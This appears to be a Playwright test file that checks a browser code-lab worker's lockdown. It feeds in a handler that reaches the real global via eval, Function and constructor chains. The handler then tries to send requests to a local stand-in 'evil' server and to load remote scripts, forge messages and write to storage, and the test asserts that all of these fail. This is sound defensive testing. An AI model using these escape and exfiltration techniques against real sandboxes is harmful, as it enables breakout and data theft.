/**
 * Code typed into a lab cannot leave the lab worker (lib/lab/host/lockdown.ts), even on a host that
 * sends no Content-Security-Policy (GitHub Pages, `npm run preview`: this suite's own server).
 *
 * The code reaches for the worker's real global object every way the language allows, then tries
 * every network, storage and messaging capability a dedicated worker has, and `import()` through
 * every compiler. A second server on another port stands in for another host and records every
 * request it gets; the page records every message posted on a Worker or the window; the page then
 * looks in IndexedDB, the Cache API and the origin-private file system for anything the code made.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expect, test } from './fixtures'

test.setTimeout(120_000)

/** The capabilities the code looks for on each global it reaches. */
const CAPABILITIES = [
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'EventSource',
  'WebTransport',
  'postMessage',
  'importScripts',
  'indexedDB',
  'caches',
  'BroadcastChannel',
  'MessageChannel',
  'Worker',
  'SharedWorker',
  'FontFace',
  'Notification',
  'webkitRequestFileSystem',
  'navigator.sendBeacon',
  'navigator.serviceWorker',
  'navigator.storage',
  'navigator.locks',
  'webpackChunk_N_E',
]

/** A route handler that tries to escape, and answers with what it found. */
function escapeHandler(evil: string): string {
  return `
const EVIL = ${JSON.stringify(evil)}
const CAPABILITIES = ${JSON.stringify(CAPABILITIES)}
const routes = {
  globalThis: () => globalThis,
  indirectEval: () => (0, eval)('this'),
  Function: () => Function('return this')(),
  newFunction: () => new Function('return this')(),
  constructorChain: () => ({}).constructor.constructor('return this')(),
  arrowConstructor: () => (() => 0).constructor('return this')(),
  asyncFunction: () => (async function () {}).constructor('return this')(),
  generatorFunction: () => (function* () {}).constructor('yield this')().next().value,
  asyncGeneratorFunction: async () => (await (async function* () {}).constructor('yield this')().next()).value,
}

function attempt(g, name) {
  const tries = [
    () => g.fetch(EVIL + '/fetch/' + name).catch(() => undefined),
    () => { const x = new g.XMLHttpRequest(); x.open('GET', EVIL + '/xhr/' + name); x.send() },
    () => new g.WebSocket(EVIL.replace('http', 'ws') + '/ws/' + name),
    () => new g.EventSource(EVIL + '/sse/' + name),
    () => g.postMessage({ type: 'result', id: 1, outcome: { ok: false, error: { kind: 'runtime', message: 'forged' }, console: [] } }),
    () => g.postMessage('escaped via ' + name),
    () => g.importScripts(EVIL + '/import-scripts/' + name + '.js'),
    () => g.indexedDB.open('escape-' + name),
    () => g.caches.open('escape-' + name).catch(() => undefined),
    () => new g.BroadcastChannel('escape').postMessage(name),
    () => new g.Worker(EVIL + '/worker/' + name + '.js'),
    () => g.navigator.sendBeacon(EVIL + '/beacon/' + name),
    () => g.navigator.storage.getDirectory().then((d) => d.getFileHandle('escape-' + name, { create: true })).catch(() => undefined),
    () => new g.FontFace('escape', 'url(' + EVIL + '/font/' + name + ')').load().catch(() => undefined),
    () => g.setTimeout("import(EVIL + '/timer.js')"),
    () => g.webpackChunk_N_E.push([['escape'], {}, (req) => { g.__leaked = req }]),
  ]
  for (const t of tries) {
    try { t() } catch {}
  }
}

function found(g) {
  return CAPABILITIES.filter((path) => {
    try {
      const [head, tail] = path.split('.')
      const value = g[head]
      return tail ? value != null && value[tail] !== undefined : value !== undefined
    } catch {
      return false
    }
  })
}

export default async function handler(req, res) {
  const report = {}
  for (const [name, reach] of Object.entries(routes)) {
    let g
    try {
      g = await reach()
    } catch (error) {
      report[name] = 'threw: ' + error.message
      continue
    }
    if (!g || typeof g !== 'object') {
      report[name] = 'no global: ' + typeof g
      continue
    }
    report[name] = found(g)
    attempt(g, name)
  }
  const imports = [
    () => eval("import(EVIL + '/eval.js')"),
    () => (0, eval)("import('" + EVIL + "/indirect-eval.js')"),
    () => Function("return import('" + EVIL + "/function.js')")(),
    () => ({}).constructor.constructor("return import ('" + EVIL + "/chain.js')")(),
    () => (async function () {}).constructor("return await import('" + EVIL + "/async.js')")(),
    () => (function* () {}).constructor("yield import('" + EVIL + "/generator.js')")().next().value,
  ]
  report.imports = []
  for (const load of imports) {
    try {
      await load()
      report.imports.push('loaded')
    } catch (error) {
      report.imports.push(error.message.split(':')[0])
    }
  }
  res.status(200).json(report)
}
`
}

/** Records every request another host would get. */
async function startEvilServer(): Promise<{ server: Server; origin: string; hits: string[] }> {
  const hits: string[] = []
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`)
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
    res.end('self.__evilLoaded = true')
  })
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { server, origin: `http://127.0.0.1:${port}`, hits }
}

/** Before the site's scripts: every message posted on any Worker object or the window is recorded. */
async function recordMessages(page: Page) {
  await page.addInitScript(() => {
    const seen: unknown[] = []
    ;(window as unknown as { __messages: unknown[] }).__messages = seen
    window.addEventListener('message', (event) => seen.push({ on: 'window', data: String(event.data) }))
    const RealWorker = window.Worker
    window.Worker = class extends RealWorker {
      constructor(url: string | URL, options?: WorkerOptions) {
        super(url, options)
        this.addEventListener('message', (event) => seen.push({ on: 'worker', data: JSON.stringify(event.data) }))
        this.addEventListener('error', (event) => seen.push({ on: 'worker-error', data: event.message }))
      }
    }
  })
}

let evil: Awaited<ReturnType<typeof startEvilServer>>
test.beforeAll(async () => {
  evil = await startEvilServer()
})
test.afterAll(async () => {
  await new Promise((resolve) => evil.server.close(resolve))
})

test('code in a lab finds no network, storage or messaging on the worker’s real global, and nothing leaves', async ({
  page,
}) => {
  await recordMessages(page)
  const response = await page.goto('/playground/')
  // As GitHub Pages and `npm run preview` serve the site: no policy stops anything here.
  expect(response?.headers()['content-security-policy']).toBeUndefined()
  await page.evaluate(() => localStorage.clear())
  const root = page.locator('[data-lab="playground"]')
  await root.scrollIntoViewIfNeeded()
  await expect(root.locator('.cm-content').first()).toBeVisible({ timeout: 60_000 })
  await root.locator('.cm-content').first().click()
  await page.keyboard.press('ControlOrMeta+A')
  await page.keyboard.insertText(escapeHandler(evil.origin))
  await root.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(root).toHaveAttribute('data-state', 'done', { timeout: 60_000 })
  await expect(root.getByTestId('response-status')).toHaveText(/^200\b/)
  const report = JSON.parse((await root.getByLabel('Response body').textContent()) ?? '{}') as Record<string, unknown>

  // Every route reaches a global, and none of them has anything left on it.
  for (const route of [
    'globalThis',
    'indirectEval',
    'Function',
    'newFunction',
    'constructorChain',
    'arrowConstructor',
    'asyncFunction',
    'generatorFunction',
    'asyncGeneratorFunction',
  ]) {
    expect(report[route], route).toEqual([])
  }
  // import() is refused by every compiler the code can reach.
  expect(report.imports).toEqual(Array(6).fill('import() is not available in the lab'))

  // Give anything asynchronous (a socket, a fetch, a font) time to go out.
  await page.waitForTimeout(1500)
  expect(evil.hits, 'requests that reached the other host').toEqual([])
  expect(await page.evaluate(() => (window as unknown as { __messages: unknown[] }).__messages)).toEqual([])
  const storage = await page.evaluate(async () => {
    const databases = (await indexedDB.databases()).map((db) => db.name ?? '')
    const cacheNames = await caches.keys()
    const files: string[] = []
    const directory = (await navigator.storage.getDirectory()) as unknown as {
      keys(): AsyncIterable<string>
    }
    for await (const name of directory.keys()) files.push(name)
    return [...databases, ...cacheNames, ...files].filter((name) => name.startsWith('escape'))
  })
  expect(storage, 'storage the code opened').toEqual([])

  // The lab is still a lab: its own simulated fetch and the database work after all that.
  await root.locator('.cm-content').first().click()
  await page.keyboard.press('ControlOrMeta+A')
  await page.keyboard.insertText(
    `import { pool } from '@/lib/db'\nexport default async function handler(req, res) {\n  const self = await fetch('/api/v2/todos').then((r) => r.status)\n  const { rows } = await pool.query('SELECT count(*)::int AS n FROM todos')\n  res.status(200).json({ self, n: rows[0].n })\n}\n`,
  )
  await root.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(root).toHaveAttribute('data-state', 'done', { timeout: 60_000 })
  await expect(root.getByLabel('Response body')).toContainText('"self": 200')
})
